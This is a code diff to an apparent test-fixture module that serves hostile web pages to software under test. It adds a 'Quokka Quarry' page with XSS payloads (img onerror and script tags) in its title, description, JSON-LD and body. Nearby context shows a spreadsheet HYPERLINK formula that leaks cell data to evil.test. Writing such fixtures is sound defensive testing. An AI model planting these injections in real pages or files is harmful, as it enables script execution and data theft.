@@ -24,6 +24,11 @@ export const hostileHosts = {
   robotsBlocked: "robots-blocked.hostile.test",
   /** A ledger page about Northwind Robotics whose text starts cells with spreadsheet formulas and a negative number. */
   spreadsheetFormulas: "ledger.hostile.test",
+  /**
+   * The own site of "Quokka Quarry", whose `<title>`, description and JSON-LD carry HTML (an `<img>`
+   * with `onerror`, a `<script>`) and whose text carries markup written as entities. Not searchable.
+   */
+  markupInTitle: "quokka-quarry.hostile.test",
 } as const;
 
 /** Size of the huge page in bytes: 50 MiB. */
@@ -66,6 +71,17 @@ const formulaHtml = `<!DOCTYPE html>
 <h1>Northwind Robotics ledger export</h1>
 <p>=HYPERLINK("http://evil.test/?leak="&amp;A1,"details") is the export formula of the Northwind Robotics ledger.</p>
 <p>The Northwind Robotics ledger balance is -12 units.</p>
+</main></body></html>
+`;
+
+const markupTitleHtml = `<!DOCTYPE html>
+<html lang="en"><head><meta charset="utf-8"><title><img src=x onerror=alert(1)>Quokka Quarry press kit<script>alert(2)</script></title>
+<meta name="description" content="&lt;img src=x onerror=alert(3)&gt;Quokka Quarry cuts granite.">
+<script type="application/ld+json">{"@context":"https://schema.org","@type":"Organization","name":"Quokka Quarry<script>alert(4)</script>","foundingDate":"1987"}</script>
+</head>
+<body><main>
+<p>&lt;img src=x onerror=alert(5)&gt;Quokka Quarry cuts granite and marble for builders in three states.</p>
+<p>Quokka Quarry was founded in 1987 by the Brennan family.</p>
 </main></body></html>
 `;
 
@@ -180,6 +196,11 @@ export function createHostileRoutes(): HostileRoute[] {
       path: "/northwind-robotics-ledger",
       searchable: { title: "Northwind Robotics ledger export", text: toMainText(formulaHtml) },
       handle: (_request, response) => sendHtml(response, formulaHtml),
+    },
+    {
+      host: hostileHosts.markupInTitle,
+      path: "/",
+      handle: (_request, response) => sendHtml(response, markupTitleHtml),
     },
     {
       host: hostileHosts.loopbackRedirect,
